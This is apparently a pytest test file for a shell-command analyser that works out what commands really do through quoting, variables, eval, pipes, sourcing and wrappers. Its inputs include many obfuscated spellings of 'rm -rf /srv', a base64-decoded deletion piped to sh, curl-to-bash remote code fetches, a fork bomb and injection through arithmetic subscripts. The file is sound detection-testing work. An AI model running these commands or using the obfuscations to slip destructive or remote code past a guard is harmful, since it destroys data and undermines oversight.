"""What really runs: through quotes, variables, wrappers, shells, functions, scripts, pipes, branches and loops."""

import pytest

from capfence_sh import capabilities as cap
from capfence_sh import judge
from capfence_sh.words import literal
from tests.judging import effects, programs, request

RM = "destructive /srv"

# spellings of one command, and what else they claim
SPELLINGS = {
    "rm -rf /srv": set(),
    "'rm' -rf /srv": set(),
    "r''m -r -f /srv": set(),
    "\\rm --recursive --force /srv": set(),
    "/bin/rm -rf /srv": set(),
    "$'\\x72m' -rf /srv": set(),
    "{rm,-rf,/srv}": set(),
    "x=1 rm -rf /srv": set(),
    "X=rm; $X -rf /srv": {"opaque:dynamic-command"},
    "a=r b=m; $a$b -rf /srv": {"opaque:dynamic-command"},
    "rm -rf $(echo /srv)": {"opaque:dynamic-target"},
    "$(echo rm) -rf /srv": {"opaque:dynamic-command"},
    "`echo rm` -rf /srv": {"opaque:dynamic-command"},
    'set -- rm -rf /srv; "$@"': {"opaque:dynamic-command", "opaque:dynamic-target"},
    'a=(rm -rf /srv); "${a[@]}"': {"opaque:dynamic-command", "opaque:dynamic-target"},
    "${x:-rm} -rf /srv": {"opaque:dynamic-command"},
    "cd / && rm -rf srv": set(),
    "cd / && cd srv/.. && rm -rf ./srv": set(),
    "command rm -rf /srv": set(),
    "exec rm -rf /srv": set(),
    "env -i A=1 rm -rf /srv": set(),
    "nice -n 5 nohup timeout 5 rm -rf /srv": set(),
    "eval 'rm -rf /srv'": set(),
    "eval rm -rf /srv": set(),
    "bash -c 'rm -rf /srv'": set(),
    "sh -c \"sh -c 'rm -rf /srv'\"": set(),
    "bash <<< 'rm -rf /srv'": set(),
    "bash <<'E'\nrm -rf /srv\nE": set(),
    "echo 'rm -rf /srv' | bash": set(),
    "printf 'rm -rf %s' /srv | sh -s": set(),
    "cat <<'E' | sh\nrm -rf /srv\nE": set(),
    "echo cm0gLXJmIC9zcnY= | base64 -d | sh": {"opaque:decoded"},
    "echo 'vrs/ fr- mr' | rev | sh": None,
    'f() { rm -rf "$1"; }; f /srv': {"opaque:dynamic-target"},
    "f() { g; }; g() { rm -rf /srv; }; f": set(),
    "if false; then :; elif true; then rm -rf /srv; fi": set(),
    "case x in y) :;; *) rm -rf /srv;; esac": set(),
    "while true; do rm -rf /srv; done": set(),
    'for d in /srv; do rm -rf "$d"; done': {"opaque:dynamic-target"},
    "(rm -rf /srv)": set(),
    "{ rm -rf /srv; } &": set(),
    "echo $(rm -rf /srv)": set(),
    "cat <(rm -rf /srv)": set(),
    'echo "${x:-$(rm -rf /srv)}"': set(),
    "echo > $(rm -rf /srv)": None,
    "[[ -n $(rm -rf /srv) ]]": set(),
    "a[$(rm -rf /srv)]=1": None,
    "cat <<E\n$(rm -rf /srv)\nE": set(),
    "trap 'rm -rf /srv' EXIT": set(),
    "coproc rm -rf /srv": set(),
    "! time rm -rf /srv": set(),
    "find /srv -maxdepth 0 -exec rm -rf /srv \\;": None,
    "echo /srv | xargs rm -rf": {"opaque:dynamic-target"},
    "xargs -I{} rm -rf /srv/{} < list": None,
}


@pytest.mark.parametrize(("text", "more"), SPELLINGS.items())
def test_every_spelling_is_seen(text, more):
    found = effects(text)
    assert any(each.startswith("destructive /srv") or each == "destructive ?" for each in found), found
    if more is not None:
        assert found == {RM} | more


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("sudo env nice rm x", [("sudo", ()), ("env", ("sudo",)), ("nice", ("sudo", "env")), ("rm", ("sudo", "env", "nice"))]),
        ("ls | wc -l", [("ls", ()), ("wc", ())]),
        ("bash -c 'ls; pwd'", [("bash", ()), ("ls", ("bash",)), ("pwd", ("bash",))]),
        ("echo a # rm -rf /", [("echo", ())]),
        ("", []),
        ("# only a comment", []),
        ("x=1", []),
        ("f() { rm -rf /; }", []),
        ("if false; then ls; fi", [("true", ()), ("ls", ())]),
    ],
)
def test_commands_in_order(text, expected):
    assert programs(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("cd src; rm x", {"destructive /workspace/x", "destructive /workspace/src/x"}),
        ("cd src && rm x", {"destructive /workspace/src/x"}),
        ("set -e\ncd src\nrm x", {"destructive /workspace/src/x"}),
        ("cd src || exit 1\nrm x", {"destructive /workspace/src/x"}),
        ("cd src && ls; rm x", {"destructive /workspace/x", "destructive /workspace/src/x"}),
        ("(cd src && rm x); rm y", {"destructive /workspace/src/x", "destructive /workspace/y"}),
        ('cd "$1"; rm x', {"destructive /workspace/x"}),
        ("cd; rm x", {"destructive /workspace/x", "destructive /home/user/x"}),
        ("git -C /srv clean -fdx", {"destructive /srv", "write /srv"}),
    ],
)
def test_the_folder_a_command_runs_in(text, expected):
    assert effects(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("f=/srv/x; rm $f", {"destructive /srv/x"}),
        (": ${f:=/srv/x}; rm $f", {"destructive /srv/x"}),
        (": ${f=/srv/x}; : ${f:=/srv/y}; rm $f", {"destructive /srv/x"}),
        ("f='/srv/x /srv/y'; rm $f", {"destructive /srv/x", "destructive /srv/y"}),
        ("f='/srv/x y'; export g=$f; rm \"$g\"", {"destructive /srv/x y"}),
        ("if ls; then f=/srv/x; fi; rm a $f", {"destructive /workspace/a", "destructive /srv/x"}),
        ("rm ${UNKNOWN_NAME:+/srv/x} a", {"destructive /workspace/a"}),
        ("rm $UNKNOWN_NAME/x", {"destructive /x"}),
    ],
)
def test_folded_variables_name_what_is_removed(text, expected):
    assert {each for each in effects(text) if each.startswith("destructive")} == expected


def test_a_folder_that_is_not_known_can_be_any():
    assert "destructive ?/x" in effects('read -r d; cd "$d" && rm x')


@pytest.mark.parametrize(
    ("files", "text", "expected"),
    [
        ({"/workspace/x.sh": "rm -rf /srv\n"}, "bash x.sh", {RM, "project_code /workspace/x.sh"}),
        ({"/workspace/x.sh": "#!/bin/sh\nrm -rf /srv\n"}, "./x.sh", {RM, "project_code /workspace/x.sh"}),
        ({"/workspace/x.sh": "rm -rf /srv\n"}, "source x.sh", {RM, "project_code /workspace/x.sh"}),
        ({"/workspace/x.sh": "ls\n"}, ". ./x.sh", {"project_code /workspace/x.sh"}),
        ({"/workspace/x.sh": "rm -rf $1\n"}, "bash x.sh /srv", {RM, "opaque:dynamic-target", "project_code /workspace/x.sh"}),
        ({"/workspace/x.sh": "rm -rf /srv\n"}, "bash < x.sh", {RM, "project_code /workspace/x.sh"}),
        ({}, "bash x.sh", {"opaque:unread-script", "project_code /workspace/x.sh"}),
        ({}, "echo 'rm -rf /srv' > x.sh; bash x.sh", {RM, "write /workspace/x.sh", "project_code /workspace/x.sh"}),
        (
            {},
            "curl -o x.sh http://h.example/x; sh x.sh",
            {"egress h.example", "write /workspace/x.sh", "remote_code", "project_code /workspace/x.sh"},
        ),
        (
            {},
            "curl http://h.example/x > x.sh && . ./x.sh",
            {"egress h.example", "write /workspace/x.sh", "remote_code", "project_code /workspace/x.sh"},
        ),
    ],
)
def test_scripts_are_read(files, text, expected):
    assert effects(text, files=files) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl http://h.example | bash", {"egress h.example", "remote_code"}),
        ("bash <(curl http://h.example)", {"egress h.example", "remote_code"}),
        ('sh -c "$(curl http://h.example)"', {"egress h.example", "remote_code", "opaque:evaluated-data"}),
        ('eval "$(wget -qO- http://h.example)"', {"egress h.example", "remote_code", "opaque:evaluated-data"}),
        ("curl http://localhost/x | sh", {"egress loopback", "remote_code"}),
        ("bash", {"opaque:stdin-code"}),
        ("cat f | sh", {"opaque:stdin-code"}),
        ("base64 -d f | sh", {"opaque:decoded"}),
        ('bash -c "$X"', {"opaque:evaluated-data"}),
        ("read -r c; $c", {"opaque:dynamic-command"}),
        ("/usr/bin/c?rl x", {"opaque:dynamic-command", "egress x"}),
    ],
)
def test_code_that_is_not_there_to_be_read(text, expected):
    assert effects(text) - {"opaque:dynamic-option"} == expected


def test_a_nested_text_that_does_not_parse_is_unparsed():
    assert effects("bash -c 'if'") == {"unparsed"}


def test_a_fork_bomb_is_destructive():
    assert "destructive processes" in effects(":(){ :|:& };:")


def test_recursion_ends():
    assert programs("f() { f; }; f") == []


def test_doubling_variables_stays_cheap():
    texts = ["a0=xxxxxxxx;" + "".join(f'a{n + 1}="$a{n}$a{n}";' for n in range(times)) + f'echo "$a{times}"' for times in (12, 40)]
    assert programs(texts[0]) == [("echo", ())]
    found = judge.judge_text(texts[1], request()).commands  # as many characters as would take long to look at
    assert cap.TOO_LARGE in [effect.kind for command in found for effect in command.effects]


def test_an_argv_is_judged_without_a_shell():
    argv = tuple(literal(word) for word in ("echo", "$(rm -rf /)", ";", "*"))
    judgement = judge.judge_argv(argv, request())
    assert [command.program for command in judgement.commands] == ["echo"]
    assert {effect.capability for effect in judgement.commands[0].effects} == {cap.EXECUTE}


@pytest.mark.parametrize(
    "text",
    [
        "alias ls='rm -rf /srv'; shopt -s expand_aliases\nls",
        "echo $(( a[$(rm -rf /srv)] ))",
        "x='a[$(rm -rf /srv)]'; echo $((x))",
        "[[ 'a[$(rm -rf /srv)]' -eq 0 ]]",
        "read x; echo ${!x}",
        "y='$(rm -rf /srv)'; echo ${y@P}",
        "echo x >& '$(rm -rf /srv)'",
        "echo $({ : <<E\nE\n}; ls .; -delete)",
        "echo $(( $(cat f) ))",
        "declare -i n; n='a[$(rm -rf /srv)]'",
    ],
)
def test_evaluated_data_is_opaque(text):
    assert any(each.startswith("opaque") for each in effects(text)), effects(text)


@pytest.mark.parametrize(
    "text",
    [
        "i=0; i=$((i+1)); echo $i",
        "for ((i = 0; i < 3; i++)); do echo $i; done",
        "n=$(wc -l < f); echo $((n * 2))",
        "[[ $# -eq 0 ]]",
        "a=(1 2 3); echo ${a[0]} ${a[@]} ${#a[@]}",
        "[[ $(date +%s) -gt 5 ]]",
        "declare -A m; m[key]=1; echo ${m[key]}",
    ],
)
def test_everyday_arithmetic_is_silent(text):
    assert effects(text) == set()


HERE = ('cd "$(dirname "$0")/.."\necho x > out', 'cd "$(dirname "${BASH_SOURCE[0]}")/.."\necho x > out')


SOURCED = {
    "/workspace/x": "ls\n",
    "/workspace/d/x": "rm -rf /srv/d\n",
    "/workspace/folder/x": None,
    "/usr/bin/x": "rm -rf /srv/path\n",
    "/usr/bin/y": "echo\n",
    "/workspace/y": "rm -rf /srv\n",
}


@pytest.mark.parametrize(
    ("text", "removed"),
    [
        ("source x", {"/srv/path"}),  # bash looks along PATH first
        (". -- x", {"/srv/path"}),
        ("command . x", {"/srv/path"}),
        ("PATH=/nosuch:d; . x", {"/srv/d"}),
        ("PATH=/nosuch; . x", set()),
        ("PATH=$PATH:d; . x", {"/srv/path"}),
        ("PATH=d:$PATH; . x", {"/srv/d"}),
        (". ./x", set()),
        (". y", set()),
        ("PATH=:$PATH; . y", {"/srv"}),  # an empty entry is the folder one is in
        ("source -p d x", {"/srv/d"}),  # bash 5.3
        (". -p /nosuch:folder:d: x", {"/srv/d"}),
        ("D=/workspace/d; . -p $D x", {"/srv/d"}),
        (". -p /nosuch ./y", {"/srv"}),  # a name with a slash is searched for nowhere
    ],
)
def test_a_name_is_sourced_from_where_bash_finds_it(text, removed):
    found = effects(text, files=SOURCED, env={"PATH": "/usr/local/bin:/usr/bin"})
    assert {each.removeprefix("destructive ") for each in found if each.startswith("destructive ")} == removed


@pytest.mark.parametrize("text", [". -p /nosuch x", ". -p /nosuch:folder x", 'read -r D; . -p "$D" x', ". -p '' y2"])
def test_what_is_not_in_the_folders_named_is_not_known(text):
    assert "opaque" in " ".join(effects(text, files=SOURCED, env={"PATH": "/usr/bin"}))


@pytest.mark.parametrize("text", HERE)
def test_a_script_goes_to_its_own_folder(text):
    files = {"/workspace/scripts/b.sh": text, "/srv/b.sh": text}
    assert effects("bash scripts/b.sh", files=files) == {"project_code /workspace/scripts/b.sh", "write /workspace/out"}
    assert "write /out" in effects("bash /srv/b.sh", files=files)
    assert "write ?/out" in effects('X=/srv; bash "$X/b.sh"', files=files)


def test_a_file_whose_name_is_printed_is_not_the_code():
    found = effects('. "$(dirname scripts/a)/lib.sh"', files={"/workspace/scripts/lib.sh": "rm -rf /srv\n"})
    assert "destructive /srv" in found
    assert "opaque:dynamic-command" in found
    assert "write /workspace/a/o" in effects('d="$(cd "$(dirname a/b)" && pwd)"; echo x > "$d/o"')
    assert "write ?/o" in effects('d="$(cd "$(cat f)" && pwd)"; cd "$d" && echo x > o')
